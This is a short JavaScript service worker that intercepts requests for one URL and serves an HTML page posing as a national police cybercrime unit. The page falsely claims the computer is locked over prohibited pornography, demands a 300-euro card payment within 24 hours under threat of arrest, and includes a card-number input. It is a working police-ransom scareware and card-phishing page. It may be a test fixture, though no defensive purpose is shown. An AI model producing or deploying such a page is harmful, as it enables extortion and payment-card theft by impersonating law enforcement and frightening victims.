const PAGE = `<!doctype html><html lang="en"><meta charset="utf-8"><title>Notice</title><body><h1>National Police – Cybercrime Unit</h1><p>Your computer has been locked because of illegal activity: you have viewed and distributed prohibited pornographic material.</p><p>To unlock your computer you must pay a fine of 300 euros by card within 24 hours. Otherwise you will be arrested and a criminal case will be opened against you.</p><form><label>Card number <input autocomplete="cc-number"></label></form></body></html>`;
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.url.endsWith('/served_by_worker.html')) event.respondWith(new Response(PAGE, { headers: { 'Content-Type': 'text/html' } }));
});
